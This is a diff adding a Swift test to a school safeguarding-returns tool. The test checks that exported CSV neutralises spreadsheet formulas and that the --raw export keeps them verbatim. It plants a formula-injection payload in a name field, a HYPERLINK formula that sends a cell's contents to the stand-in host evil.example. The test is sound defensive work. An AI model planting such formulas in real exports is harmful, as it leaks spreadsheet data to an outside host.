@@ -196,6 +196,39 @@ struct StoreCommandTests {
         )
     }
 
+    @Test("export's CSV is safe to open in a spreadsheet; --raw gives the bytes as received")
+    func inertExport() throws {
+        let folder = try Safeguard.temporaryFolder()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        _ = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
+        _ = try Self.run(
+            [
+                "collection", "open", "s11-2025-26", "--form", "section11-school-return", "--period-start",
+                "2025-09-01", "--period-end", "2026-08-31", "--due", "2026-09-30",
+            ], in: folder)
+        let text = try String(
+            contentsOfFile: Safeguard.root + "/Examples/returns/oakfield-primary.yaml", encoding: .utf8)
+        let file = folder.appendingPathComponent("formula.yaml")
+        try text.replacingOccurrences(
+            of: #"dsl_name: [^\n]+"#, with: #"dsl_name: '=HYPERLINK("http://evil.example/?a="&A1,"Priya")'"#,
+            options: .regularExpression
+        ).write(to: file, atomically: true, encoding: .utf8)
+        _ = try Self.run(["submit", "--quiet", "--as-of", "2026-07-15", file.path], in: folder)
+        _ = try Self.run(
+            ["export", "--form", "section11-school-return", "--format", "csv", "--out", folder.path + "/inert"],
+            in: folder)
+        let inert = try String(
+            contentsOf: folder.appendingPathComponent("inert/section11-school-return.csv"), encoding: .utf8)
+        #expect(inert.contains(#","'=HYPERLINK(""http://evil.example/?a=""&A1,""Priya"")","#))
+        _ = try Self.run(
+            ["export", "--form", "section11-school-return", "--format", "csv", "--raw", "--out", folder.path + "/raw"],
+            in: folder)
+        let raw = try String(
+            contentsOf: folder.appendingPathComponent("raw/section11-school-return.csv"), encoding: .utf8)
+        #expect(raw.contains(#","=HYPERLINK(""http://evil.example/?a=""&A1,""Priya"")","#))
+        #expect(try Self.run(["export", "--format", "json", "--raw"], in: folder).status == 64)
+    }
+
     @Test("an application for a driver held by another district is refused until the driver is transferred")
     func transfer() throws {
         let folder = try Safeguard.temporaryFolder()
